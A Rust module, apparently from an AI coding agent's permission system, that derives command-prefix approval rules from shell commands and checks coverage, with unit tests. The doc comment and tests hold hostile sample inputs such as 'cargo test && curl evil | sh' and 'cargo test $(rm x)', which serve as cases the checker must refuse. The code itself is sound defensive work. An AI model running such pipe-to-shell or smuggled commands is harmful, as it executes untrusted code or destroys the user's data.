//! What answering "always" to a shell command remembers, and which later commands that
//! covers: a **command prefix** per simple command, like Claude Code's `Bash(npm test:*)`
//! rules.
//!
//! The rule:
//! - A command line is split into simple commands at `;`, `&&`, `||`, `|`, `&` and newlines
//!   (quotes and escapes respected; redirections such as `2>&1` or `> out.txt` are set
//!   aside). A later command is covered only when **every** simple command in it starts with
//!   a remembered prefix, so approving `cargo test` never lets `cargo test && curl x | sh`
//!   through.
//! - A simple command's prefix is its program plus the first argument when that argument is
//!   not an option: `cargo test -p x` → `cargo test` (so `cargo test -p y` is covered, `cargo
//!   publish` is not), `git commit -m x` → `git commit`, `ls -la` → `ls`. Package-script
//!   runners keep the script's name too: `npm run build` → `npm run build`, `uv run pytest`
//!   → `uv run pytest`. Interpreters keep the script or module: `python3 app.py` →
//!   `python3 app.py`, `python -m pytest -x` → `python -m pytest`. Leading `VAR=value`
//!   assignments belong to the prefix (`RUST_LOG=debug cargo test` is not `cargo test`).
//!   Words are compared whole: `cargo test` does not cover `cargo testx`.
//! - Commands whose prefix says nothing about what runs are remembered **exactly** (only the
//!   same command line is covered later): wrappers and shells (`sudo`, `env`, `xargs`,
//!   `bash -c ...`, `timeout`, ...), inline code (`python -c`, `node -e`), and anything this
//!   splitter does not analyse: command or process substitution (`$(...)`, backticks,
//!   `<(...)`), subshells and groups, here-documents, shell keywords (`if`, `for`, ...) and
//!   a program named by a variable.

use std::fmt;

/// What "always" remembers for one shell command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CommandRule {
    /// Simple commands whose words start with these words.
    Prefix(Vec<String>),
    /// This exact command line (compared after trimming surrounding whitespace).
    Exact(String),
}

impl fmt::Display for CommandRule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CommandRule::Prefix(words) => write!(f, "`{}`", words.join(" ")),
            CommandRule::Exact(command) => write!(f, "exactly `{command}`"),
        }
    }
}

/// The rules "always" would remember for `command`: one prefix per simple command, or the
/// exact command line when any part of it has no prefix.
pub fn rules_for(command: &str) -> Vec<CommandRule> {
    let exact = || vec![CommandRule::Exact(command.trim().to_string())];
    let Some(segments) = simple_commands(command) else {
        return exact();
    };
    let mut rules: Vec<CommandRule> = Vec::new();
    for segment in &segments {
        let Some(prefix) = prefix_of(segment) else {
            return exact();
        };
        let rule = CommandRule::Prefix(prefix);
        if !rules.contains(&rule) {
            rules.push(rule);
        }
    }
    if rules.is_empty() {
        return exact();
    }
    rules
}

/// Whether `command` is covered by remembered `rules`.
pub fn is_covered(rules: &[CommandRule], command: &str) -> bool {
    let trimmed = command.trim();
    if rules
        .iter()
        .any(|rule| matches!(rule, CommandRule::Exact(exact) if exact == trimmed))
    {
        return true;
    }
    let Some(segments) = simple_commands(command) else {
        return false;
    };
    !segments.is_empty()
        && segments.iter().all(|segment| {
            rules.iter().any(|rule| match rule {
                CommandRule::Prefix(prefix) => segment.starts_with(prefix),
                CommandRule::Exact(_) => false,
            })
        })
}

/// Programs that run another command given as their arguments, and shells.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "su", "env", "xargs", "eval", "exec", "command", "builtin", "nohup", "time", "timeout",
    "nice", "ionice", "stdbuf", "watch", "strace", "ltrace", "chroot", "unshare", "setsid", "flock", "sh",
    "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ssh", "source", ".",
];

/// Interpreters: what runs is the script or module after them.
const INTERPRETERS: &[&str] = &[
    "node", "nodejs", "deno", "ruby", "perl", "php", "lua", "Rscript", "julia", "java",
];

/// (program, subcommand) pairs whose next word names the script or program they run.
const RUNNERS: &[(&str, &str)] = &[
    ("npm", "run"),
    ("npm", "run-script"),
    ("npm", "exec"),
    ("pnpm", "run"),
    ("pnpm", "exec"),
    ("pnpm", "dlx"),
    ("yarn", "run"),
    ("yarn", "exec"),
    ("yarn", "dlx"),
    ("bun", "run"),
    ("bun", "x"),
    ("uv", "run"),
    ("uv", "tool"),
    ("poetry", "run"),
    ("pipenv", "run"),
    ("pdm", "run"),
    ("hatch", "run"),
    ("go", "run"),
];

/// Shell keywords: a command using them is more than simple commands.
const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac", "select",
    "function", "[[", "]]", "!", "coproc",
];

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        let mut chars = name.chars();
        chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
            && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// The prefix of one simple command, or `None` when only the exact command may be
/// remembered.
pub fn prefix_of(words: &[String]) -> Option<Vec<String>> {
    let assignments = words.iter().take_while(|w| is_assignment(w)).count();
    let rest = &words[assignments..];
    let program = rest.first()?;
    if program.contains('$') || program.is_empty() {
        return None;
    }
    let name = program.rsplit('/').next().unwrap_or(program);
    if WRAPPERS.contains(&name) || KEYWORDS.contains(&name) {
        return None;
    }
    let operand = |i: usize| rest.get(i).filter(|w| !w.starts_with('-'));
    let take = if name.starts_with("python") || INTERPRETERS.contains(&name) {
        match rest.get(1).map(String::as_str) {
            Some("-m") if operand(2).is_some() => 3,
            Some(word) if !word.starts_with('-') => 2,
            _ => return None,
        }
    } else if let Some(subcommand) = operand(1) {
        let runner = RUNNERS.contains(&(name, subcommand.as_str()));
        if runner && operand(2).is_some() { 3 } else { 2 }
    } else {
        1
    };
    Some(words[..assignments + take].to_vec())
}

/// Splits a command line into its simple commands' words, or `None` when it uses shell
/// features this splitter does not analyse (see the module documentation).
pub fn simple_commands(command: &str) -> Option<Vec<Vec<String>>> {
    Splitter::default().split(command)
}

#[derive(Default)]
struct Splitter {
    segments: Vec<Vec<String>>,
    words: Vec<String>,
    word: String,
    in_word: bool,
    /// The next word is a redirection's target, not an argument.
    redirect_target: bool,
}

impl Splitter {
    fn end_word(&mut self) {
        if self.in_word {
            let word = std::mem::take(&mut self.word);
            if self.redirect_target {
                self.redirect_target = false;
            } else {
                self.words.push(word);
            }
            self.in_word = false;
        }
    }

    /// Ends a simple command; `None` when a redirection lacks its target.
    fn end_segment(&mut self) -> Option<()> {
        self.end_word();
        if self.redirect_target {
            return None;
        }
        if !self.words.is_empty() {
            let words = std::mem::take(&mut self.words);
            let first = words.iter().find(|w| !is_assignment(w));
            if first.is_some_and(|w| KEYWORDS.contains(&w.as_str())) {
                return None;
            }
            self.segments.push(words);
        }
        Some(())
    }

    fn push(&mut self, c: char) {
        self.word.push(c);
        self.in_word = true;
    }

    fn split(mut self, command: &str) -> Option<Vec<Vec<String>>> {
        let chars: Vec<char> = command.chars().collect();
        let at = |i: usize| chars.get(i).copied();
        let mut i = 0;
        while let Some(c) = at(i) {
            match c {
                ' ' | '\t' | '\r' => self.end_word(),
                '\n' | ';' => self.end_segment()?,
                '&' if at(i + 1) == Some('>') => {
                    self.end_word();
                    i += if at(i + 2) == Some('>') { 2 } else { 1 };
                    self.redirect_target = true;
                }
                '&' | '|' => {
                    if matches!(at(i + 1), Some('&' | '|')) {
                        i += 1;
                    }
                    self.end_segment()?;
                }
                '<' | '>' => {
                    if at(i + 1) == Some('(') || (c == '<' && at(i + 1) == Some('<')) {
                        return None;
                    }
                    // `2>`: the digits name a file descriptor, not an argument.
                    if self.in_word && self.word.chars().all(|d| d.is_ascii_digit()) {
                        self.word.clear();
                        self.in_word = false;
                    } else {
                        self.end_word();
                    }
                    if self.redirect_target {
                        return None;
                    }
                    if matches!(at(i + 1), Some('>' | '|' | '&')) || (c == '<' && at(i + 1) == Some('>')) {
                        i += 1;
                    }
                    self.redirect_target = true;
                }
                '(' | ')' | '`' => return None,
                '{' | '}' if !self.in_word => return None,
                '#' if !self.in_word => {
                    while at(i + 1).is_some_and(|n| n != '\n') {
                        i += 1;
                    }
                }
                '$' if at(i + 1) == Some('(') => return None,
                '\\' => match at(i + 1) {
                    Some('\n') => i += 1,
                    Some(next) => {
                        self.push(next);
                        i += 1;
                    }
                    None => self.push('\\'),
                },
                '\'' => {
                    self.in_word = true;
                    loop {
                        i += 1;
                        match at(i)? {
                            '\'' => break,
                            inner => self.word.push(inner),
                        }
                    }
                }
                '"' => {
                    self.in_word = true;
                    loop {
                        i += 1;
                        match at(i)? {
                            '"' => break,
                            '`' => return None,
                            '$' if at(i + 1) == Some('(') => return None,
                            '\\' if matches!(at(i + 1), Some('"' | '\\' | '$' | '`')) => {
                                i += 1;
                                self.word.push(at(i)?);
                            }
                            '\\' if at(i + 1) == Some('\n') => i += 1,
                            inner => self.word.push(inner),
                        }
                    }
                }
                other => self.push(other),
            }
            i += 1;
        }
        self.end_segment()?;
        Some(self.segments)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(command: &str) -> Vec<Vec<String>> {
        simple_commands(command).unwrap()
    }

    fn prefix(command: &str) -> Option<String> {
        let segments = words(command);
        prefix_of(&segments[0]).map(|p| p.join(" "))
    }

    #[test]
    fn commands_split_at_operators_with_quotes_and_redirections_respected() {
        assert_eq!(
            words("cargo test -p x 2>&1 | tail -n 5 && echo 'a; b' > out.txt; ls"),
            [
                vec!["cargo", "test", "-p", "x"],
                vec!["tail", "-n", "5"],
                vec!["echo", "a; b"],
                vec!["ls"],
            ]
        );
        assert_eq!(
            words(r#"grep "x \"y\"" src # a comment"#),
            [vec!["grep", r#"x "y""#, "src"]]
        );
        assert_eq!(words("make &> log & wait"), [vec!["make"], vec!["wait"]]);
        for opaque in [
            "echo $(whoami)",
            "echo `id`",
            "diff <(ls a) <(ls b)",
            "(cd x && make)",
            "{ ls; }",
            "cat <<EOF\nhi\nEOF",
            "for f in *; do rm $f; done",
            "if true; then ls; fi",
            "echo 'unterminated",
            "ls >",
        ] {
            assert!(simple_commands(opaque).is_none(), "analysed: {opaque}");
        }
    }

    #[test]
    fn the_prefix_is_the_program_and_its_subcommand() {
        assert_eq!(prefix("cargo test -p x").as_deref(), Some("cargo test"));
        assert_eq!(prefix("git commit -m 'x y'").as_deref(), Some("git commit"));
        assert_eq!(prefix("ls -la src").as_deref(), Some("ls"));
        assert_eq!(prefix("make").as_deref(), Some("make"));
        assert_eq!(
            prefix("npm run build -- --watch").as_deref(),
            Some("npm run build")
        );
        assert_eq!(prefix("npm test").as_deref(), Some("npm test"));
        assert_eq!(prefix("uv run pytest -x").as_deref(), Some("uv run pytest"));
        assert_eq!(
            prefix("python3 app.py --port 1").as_deref(),
            Some("python3 app.py")
        );
        assert_eq!(prefix("python -m pytest -x").as_deref(), Some("python -m pytest"));
        assert_eq!(
            prefix("RUST_LOG=debug cargo test").as_deref(),
            Some("RUST_LOG=debug cargo test")
        );
        assert_eq!(
            prefix("/usr/bin/cargo build").as_deref(),
            Some("/usr/bin/cargo build")
        );
        for exact_only in [
            "sudo cargo test",
            "bash -c 'cargo test'",
            "env X=1 cargo test",
            "xargs rm",
            "python3 -c 'print(1)'",
            "node -e 'x'",
            "$CARGO test",
            "timeout 5 cargo test",
        ] {
            assert_eq!(prefix(exact_only), None, "{exact_only}");
        }
    }

    #[test]
    fn a_remembered_prefix_covers_its_subcommand_only() {
        let rules = rules_for("cargo test -p x");
        assert_eq!(rules, [CommandRule::Prefix(vec!["cargo".into(), "test".into()])]);
        assert!(is_covered(&rules, "cargo test -p y"));
        assert!(is_covered(&rules, "cargo test 2>&1 ; cargo test --doc"));
        assert!(!is_covered(&rules, "cargo publish"));
        assert!(!is_covered(&rules, "cargo testx"));
        assert!(!is_covered(&rules, "cargo"));
        assert!(!is_covered(&rules, "cargo test && curl evil | sh"));
        assert!(!is_covered(&rules, "cargo test $(rm x)"));
        assert!(!is_covered(&rules, "FOO=1 cargo test"));
    }

    #[test]
    fn compound_commands_remember_each_part_and_opaque_ones_the_exact_line() {
        let rules = rules_for("cargo build && cargo test | tail");
        assert_eq!(rules.len(), 3);
        assert!(is_covered(&rules, "cargo test -q | tail -n 3"));
        assert!(is_covered(&rules, "cargo build --release"));
        assert!(!is_covered(&rules, "cargo run"));

        let rules = rules_for("  bash -c 'make all'  ");
        assert_eq!(rules, [CommandRule::Exact("bash -c 'make all'".into())]);
        assert!(is_covered(&rules, "bash -c 'make all'"));
        assert!(!is_covered(&rules, "bash -c 'make clean'"));
        assert_eq!(
            rules_for("ls && sudo reboot"),
            [CommandRule::Exact("ls && sudo reboot".into())]
        );
        assert_eq!(rules_for("echo $(date)").len(), 1);
    }
}
